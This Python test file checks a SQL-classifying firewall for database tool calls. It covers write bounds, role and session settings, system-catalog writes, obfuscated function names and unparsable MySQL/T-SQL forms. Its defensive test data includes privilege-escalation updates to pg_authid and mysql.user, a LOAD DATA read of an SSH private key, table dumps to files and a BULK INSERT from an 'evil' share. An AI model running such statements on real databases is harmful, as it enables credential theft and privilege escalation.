"""Proven bounds, identity and lexer settings, system catalogs, server functions however they
are spelt, and the MySQL/T-SQL forms sqlglot cannot parse: the classifier's facts and the
default pack's verdicts. (The claims are checked on the real engines in test_sql_writes.)"""

from __future__ import annotations

import pytest
import yaml

from firewall import Firewall, ToolCall, policy_from_yaml
from firewall.intent.sql import classify_sql
from firewall.intent.sqlparts.catalog import FUNCTIONS, PROCEDURES, lookup
from tests.conftest import POLICIES
from tests.test_intent_sql import load_tpc

# (dialect, sql, the condition write_bound names, or None when unbounded)
BOUNDS = [
    ("postgres", "DELETE FROM t WHERE id = 5", "id = 5"),
    ("postgres", "DELETE FROM t WHERE 5 = id", "5 = id"),
    ("postgres", "UPDATE t SET x = 1 WHERE id = $1", "id = $1"),
    ("postgres", "UPDATE t SET x = 1 WHERE id = %(id)s", "id = %(id)s"),
    ("mysql", "UPDATE t SET x = 1 WHERE id = ?", "id = ?"),
    ("tsql", "UPDATE t SET x = 1 WHERE id = @id", "id = @id"),
    ("postgres", "DELETE FROM t WHERE id IN (1, 2, 3)", "id IN (1, 2, 3)"),
    ("postgres", "DELETE FROM t WHERE x > 3 AND id = 4", "id = 4"),
    ("postgres", "DELETE FROM t WHERE (id = 1 OR id = 2)", "(id = 1) OR (id = 2)"),
    ("postgres", "UPDATE t SET x = 1 FROM s WHERE t.id = 3 AND s.id = t.sid", "t.id = 3"),
    ("postgres", "DELETE FROM t a USING s WHERE a.id = 3", "a.id = 3"),
    ("mysql", "DELETE FROM t WHERE x > 0 ORDER BY id LIMIT 10", "LIMIT 10"),
    ("mysql", "DELETE FROM t WHERE email = 'a@x.test'", "email = 'a@x.test'"),
    ("postgres", "UPDATE t SET x = 1 WHERE status = 'open'", "status = 'open'"),
    ("postgres", "DELETE FROM t WHERE id = 1 + 0 * 0", None),
    ("postgres", "DELETE FROM t", None),
    ("postgres", "DELETE FROM t WHERE id = id + 0", None),
    ("postgres", "DELETE FROM t WHERE t.id = id", None),
    ("postgres", "DELETE FROM t WHERE coalesce(x, 0) = coalesce(x, 0)", None),
    ("postgres", "DELETE FROM t WHERE EXISTS (SELECT 1)", None),
    ("postgres", "DELETE FROM t WHERE (SELECT true)", None),
    ("postgres", "DELETE FROM t WHERE 1 IN (SELECT 1)", None),
    ("postgres", "DELETE FROM t WHERE id IN (SELECT id FROM t)", None),
    ("postgres", "DELETE FROM t WHERE id IN (id)", None),
    ("postgres", "DELETE FROM t WHERE id > 5", None),
    ("postgres", "DELETE FROM t WHERE id = 5 OR x > 1", None),
    ("postgres", "DELETE FROM t WHERE NOT id = 5", None),
    ("postgres", "DELETE FROM t WHERE user = 'app'", None),
    ("postgres", "DELETE FROM t WHERE current_user = 'app'", None),
    ("postgres", "DELETE FROM t WHERE id = NULL", None),
    ("postgres", "DELETE FROM t WHERE flag = TRUE", None),
    ("postgres", "DELETE FROM t WHERE status IN ('a', 'b', 'c')", None),
    ("postgres", "DELETE FROM t WHERE status = 'a' OR status = 'b'", None),
    ("mysql", "DELETE FROM t WHERE name = 0", None),
    ("mysql", "DELETE FROM t WHERE name = 0e0", None),
    ("mysql", "DELETE FROM t WHERE name = -0", None),
    ("mysql", "DELETE FROM t WHERE name = 1e-400", None),
    ("sqlite", "DELETE FROM t WHERE \"nosuch\" = 'nosuch'", None),
    ("postgres", "DELETE FROM t USING t t2 WHERE t.id = t2.id", None),
    ("postgres", "UPDATE t SET x = 1 FROM s WHERE id = 3", None),
    ("postgres", "UPDATE t SET x = 1 FROM s WHERE s.id = 3", None),
    ("mysql", "UPDATE t a JOIN s b ON a.id = b.id SET a.x = 1 WHERE a.id = 1", None),
    ("postgres", "MERGE INTO t USING s ON t.id = 5 WHEN MATCHED THEN UPDATE SET x = 1", None),
    ("postgres", "INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET x = 1", None),
    ("mysql", "INSERT INTO t SELECT * FROM s ON DUPLICATE KEY UPDATE x = 1", None),
    ("mysql", "REPLACE INTO t SELECT * FROM s", None),
    ("sqlite", "INSERT OR REPLACE INTO t SELECT * FROM s", None),
    ("sqlite", "INSERT OR REPLACE INTO t VALUES (1, 2)", "its 1 VALUES row(s)"),
    ("spark", "INSERT OVERWRITE TABLE t SELECT * FROM s", None),
    ("postgres", "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", None),
    ("mysql", "DELETE FROM t LIMIT 101", None),
    ("mysql", "DELETE FROM t LIMIT 18446744073709551615", None),
    ("postgres", "SELECT lo_unlink(16400)", None),
    ("postgres", "PREPARE p AS DELETE FROM t WHERE id > 0", None),
    ("postgres", "EXPLAIN ANALYZE UPDATE t SET x = 1 WHERE true", None),
]


@pytest.mark.parametrize(("dialect", "sql", "bound"), BOUNDS, ids=[b[1][:60] for b in BOUNDS])
def test_a_write_is_bounded_only_when_proven(dialect, sql, bound):
    facts = classify_sql(sql, dialect).facts
    assert facts["write_count"] >= 1, facts
    assert facts["unbounded_write"] is (bound is None), facts["write_bound"]
    if bound is not None:
        assert any(f"bounded by {bound}" in b for b in facts["write_bound"]), facts["write_bound"]
    else:
        assert any("unbounded (" in b for b in facts["write_bound"]), facts["write_bound"]


def test_a_limit_bounds_up_to_the_policys_number():
    sql = "DELETE FROM t WHERE x > 0 LIMIT 40"
    assert not classify_sql(sql, "mysql").facts["unbounded_write"]
    tight = classify_sql(sql, "mysql", write_limit=10).facts
    assert tight["unbounded_write"] and tight["write_limit"] == 40
    assert "LIMIT 40 is above 10 rows" in tight["write_bound"][0]
    assert classify_sql("DELETE FROM t WHERE id IN (1, 2, 3)", "mysql", 2).facts["unbounded_write"]


def test_every_write_has_an_explanation():
    facts = classify_sql(
        "UPDATE a SET x = 1 WHERE id = 7; DELETE FROM b; DELETE FROM c LIMIT 3", "mysql"
    ).facts
    assert facts["write_bound"] == [
        "update a: bounded by id = 7",
        "delete b: unbounded (no WHERE)",
        "delete c: bounded by LIMIT 3",
    ]


# (dialect, sql, intents that must be present, settings, lexer settings)
SESSION = [
    ("postgres", "RESET ROLE", {"privilege.grant"}, ["role"], []),
    ("postgres", "RESET SESSION AUTHORIZATION", {"privilege.grant"}, ["session_authorization"], []),
    ("postgres", "SET ROLE admin", {"privilege.grant"}, ["role"], []),
    ("postgres", "SET LOCAL ROLE admin", {"privilege.grant"}, ["role"], []),
    ("postgres", "SET SESSION AUTHORIZATION admin", {"privilege.grant"}, None, []),
    ("postgres", "SET default_transaction_read_only = off", {"privilege.grant"}, None, []),
    ("postgres", "SET transaction_read_only TO off", {"privilege.grant"}, None, []),
    (
        "postgres",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        {"privilege.grant"},
        None,
        [],
    ),
    ("postgres", "SET TRANSACTION READ WRITE", {"privilege.grant"}, None, []),
    ("postgres", "BEGIN READ WRITE", {"privilege.grant"}, None, []),
    ("postgres", "RESET ALL", {"privilege.grant"}, ["all"], ["all"]),
    ("mysql", "SET PASSWORD = PASSWORD('x')", {"privilege.grant"}, ["password"], []),
    ("mysql", "SET PASSWORD FOR 'a'@'%' = 'x'", {"privilege.grant"}, ["password"], []),
    ("mysql", "SET DEFAULT ROLE ALL TO 'a'@'%'", {"privilege.grant"}, None, []),
    ("postgres", "SELECT set_config('role', 'admin', false)", {"privilege.grant"}, ["role"], []),
    ("postgres", "SELECT set_config(name, 'x', false) FROM s", {"privilege.grant"}, None, ["?"]),
    (
        "postgres",
        "SET standard_conforming_strings = off",
        set(),
        None,
        ["standard_conforming_strings"],
    ),
    ("postgres", "SET backslash_quote = on", set(), None, ["backslash_quote"]),
    ("postgres", "SET client_encoding = 'SJIS'", set(), None, ["client_encoding"]),
    ("postgres", "SET client_encoding = 'UTF8'", set(), ["client_encoding"], []),
    ("mysql", "SET sql_mode = 'NO_BACKSLASH_ESCAPES'", set(), ["sql_mode"], ["sql_mode"]),
    ("mysql", "SET @@session.sql_mode = 'ANSI_QUOTES'", set(), ["sql_mode"], ["sql_mode"]),
    ("mysql", "SET sql_mode = CONCAT(@@sql_mode, ',ANSI')", set(), ["sql_mode"], ["sql_mode"]),
    ("mysql", "SET sql_mode = 'STRICT_TRANS_TABLES'", set(), ["sql_mode"], []),
    ("mysql", "SET NAMES gbk", set(), ["names"], ["names"]),
    ("mysql", "SET NAMES utf8mb4", set(), ["names"], []),
    ("mysql", "SET GLOBAL general_log = 1", {"code.execute"}, None, []),
    ("postgres", "SET statement_timeout = 5000", set(), ["statement_timeout"], []),
    ("postgres", "SET TIME ZONE 'UTC'", set(), ["timezone"], []),
    ("mysql", "SET @x = 1", set(), ["@x"], []),
]


@pytest.mark.parametrize(
    ("dialect", "sql", "intents", "names", "lexer"), SESSION, ids=[s[1] for s in SESSION]
)
def test_session_statements(dialect, sql, intents, names, lexer):
    result = classify_sql(sql, dialect)
    assert intents <= result.intents, (sorted(result.intents), result.facts)
    if not intents:
        assert not result.intents & {"privilege.grant", "unknown"}, sorted(result.intents)
    if names is not None:
        assert result.facts["settings"] == names
    assert result.facts["lexer_settings"] == lexer


CATALOG_WRITES = [
    (
        "postgres",
        "UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE oid = 10",
        "pg_catalog.pg_authid",
    ),
    ("postgres", "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'", "pg_authid"),
    ("postgres", "DELETE FROM pg_class WHERE oid = 1", "pg_class"),
    ("postgres", 'UPDATE U&"\\0070g_authid" SET rolsuper = true WHERE oid = 10', "pg_authid"),
    (
        "postgres",
        'INSERT INTO "pg_catalog"."pg_auth_members" VALUES (1, 2, 3)',
        "pg_catalog.pg_auth_members",
    ),
    ("mysql", "UPDATE mysql.user SET Super_priv = 'Y' WHERE User = 'app'", "mysql.user"),
    ("mysql", "INSERT INTO mysql.global_priv VALUES ('%', 'x', '{}')", "mysql.global_priv"),
    (
        "mysql",
        "DELETE FROM performance_schema.setup_actors WHERE host = 'x'",
        "performance_schema.setup_actors",
    ),
    (
        "mysql",
        "UPDATE information_schema.tables SET x = 1 WHERE id = 1",
        "information_schema.tables",
    ),
    ("sqlite", "UPDATE sqlite_master SET sql = 'x' WHERE name = 't'", "sqlite_master"),
    ("sqlite", "DELETE FROM sqlite_schema WHERE name = 't'", "sqlite_schema"),
]


@pytest.mark.parametrize(
    ("dialect", "sql", "table"), CATALOG_WRITES, ids=[c[1][:50] for c in CATALOG_WRITES]
)
def test_a_write_to_a_system_catalog_is_a_privilege_and_schema_change(dialect, sql, table):
    result = classify_sql(sql, dialect)
    assert {"privilege.grant", "schema.alter"} <= result.intents, sorted(result.intents)
    assert result.facts["system_tables"] == [table]


def test_reading_a_catalog_is_only_a_read():
    result = classify_sql("SELECT relname FROM pg_catalog.pg_class WHERE relkind = 'r'")
    assert result.intents == {"data.read"}
    assert result.facts["system_tables"] == []


def _spellings(name: str) -> list[str]:
    escaped = "".join(f"\\{ord(c):04x}" for c in name)
    return [
        f"SELECT {name}('x')",
        f"SELECT {name.upper()}('x')",
        f"SELECT \"{name}\"('x')",
        f"SELECT pg_catalog.{name}('x')",
        f'SELECT "pg_catalog"."{name}"(\'x\')',
        f"SELECT U&\"{escaped}\"('x')",
        f"SELECT U&\"!{ord(name[0]):04x}{name[1:]}\" UESCAPE '!'('x')",
        f"SELECT 1 FROM t WHERE id IN (SELECT {name}('x'))",
    ]


@pytest.mark.parametrize("name", sorted(FUNCTIONS))
def test_every_server_function_is_found_however_it_is_spelt(name):
    entry = FUNCTIONS[name]
    for sql in _spellings(name):
        result = classify_sql(sql, "postgres")
        assert entry.intents <= result.intents, (sql, sorted(result.intents))
        assert name in result.facts["functions"], (sql, result.facts["functions"])


@pytest.mark.parametrize("name", sorted(PROCEDURES))
def test_every_procedure_is_found(name):
    entry = PROCEDURES[name]
    for sql in (f"EXEC {name} 'x'", f"EXEC [{name}] 'x'", f"EXEC master.dbo.{name} 'x'"):
        result = classify_sql(sql, "tsql")
        assert entry.intents <= result.intents, (sql, sorted(result.intents))


def test_function_families_are_found_by_prefix():
    assert lookup("dblink_get_result") is FUNCTIONS["dblink"]
    assert lookup("pg_ls_waldir") is FUNCTIONS["pg_ls_dir"]
    assert lookup("upper") is None
    assert classify_sql("SELECT pg_ls_logdir()").intents >= {"file.read"}


def test_unknown_functions_stay_readable():
    result = classify_sql("SELECT my_report(id), upper(name) FROM t")
    assert result.intents == {"data.read"}


def test_a_bad_unicode_escape_is_unknown():
    result = classify_sql('SELECT U&"\\zzzz"(1)')
    assert "unknown" in result.intents


FORMS = [
    (
        "mysql",
        "SELECT * FROM users INTO OUTFILE '/tmp/u.txt' FIELDS TERMINATED BY ','"
        " LINES TERMINATED BY '\\n'",
        {"data.read", "data.export", "file.write"},
        {"files_written": ["/tmp/u.txt"], "tables_read": ["users"]},
    ),
    (
        "mysql",
        "SELECT name INTO DUMPFILE '/tmp/x' FROM users WHERE id = 1",
        {"data.read", "data.export", "file.write"},
        {"files_written": ["/tmp/x"], "tables_read": ["users"]},
    ),
    (
        "mysql",
        "SELECT 1; SELECT email FROM users INTO OUTFILE '/tmp/y'; DELETE FROM t",
        {"data.export", "file.write", "data.delete"},
        {"unbounded_write": True, "statement_count": 3},
    ),
    (
        "mysql",
        "LOAD DATA LOCAL INFILE '/home/u/.ssh/id_rsa' REPLACE INTO TABLE t"
        " FIELDS TERMINATED BY ','",
        {"file.read", "data.write", "data.delete"},
        {"files_read": ["/home/u/.ssh/id_rsa"], "tables_written": ["t"]},
    ),
    (
        "tsql",
        "BULK INSERT dbo.t FROM '\\\\evil\\share\\x.csv' WITH (FIELDTERMINATOR = ',')",
        {"data.write", "network.egress"},
        {"tables_written": ["dbo.t"]},
    ),
    ("tsql", "BACKUP DATABASE shop TO DISK = 'c:\\x.bak'", {"data.export", "file.write"}, {}),
    ("mysql", "HANDLER users OPEN", {"data.read"}, {"tables_read": ["users"]}),
    ("mysql", "HANDLER users READ FIRST WHERE id = 1", {"data.read"}, {"tables_read": ["users"]}),
]


@pytest.mark.parametrize(
    ("dialect", "sql", "intents", "facts"), FORMS, ids=[f[1][:50] for f in FORMS]
)
def test_forms_that_do_not_parse_are_classified_by_what_they_do(dialect, sql, intents, facts):
    result = classify_sql(sql, dialect)
    assert "unknown" not in result.intents, result.facts
    assert intents <= result.intents, sorted(result.intents)
    for name, expected in facts.items():
        assert result.facts[name] == expected, (name, result.facts)


def test_a_form_next_to_text_that_does_not_parse_stays_unknown():
    result = classify_sql("SELECT * FROM t INTO OUTFILE '/tmp/z'; SELEKT 1", "mysql")
    assert {"unknown", "data.export", "file.write"} <= result.intents


# -- the default pack -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def firewall() -> Firewall:
    return Firewall(policy_from_yaml((POLICIES / "default.yaml").read_text(encoding="utf-8")))


@pytest.mark.parametrize(("name", "count"), [("tpc-h.sql", 44), ("tpc-ds.sql", 198)])
def test_the_pack_allows_every_tpc_query(firewall, name, count):
    queries = load_tpc(name)
    allowed = 0
    for tool in ("run_postgres", "run_sql"):
        for query in queries:
            decision = firewall.evaluate(ToolCall(name=tool, arguments={"query": query}))
            assert decision.policy_verdict.label == "allow", (tool, query[:200])
            allowed += 1
    assert allowed == 2 * count


def test_the_session_allow_rule_lists_what_it_allows():
    document = yaml.safe_load((POLICIES / "default.yaml").read_text(encoding="utf-8"))
    rule = next(r for r in document["rules"] if r["id"] == "sql-session-statements-allowed")
    assert "facts.sql.settings.all(" in rule["when"]
    assert "facts.sql.statements.all(" in rule["when"]
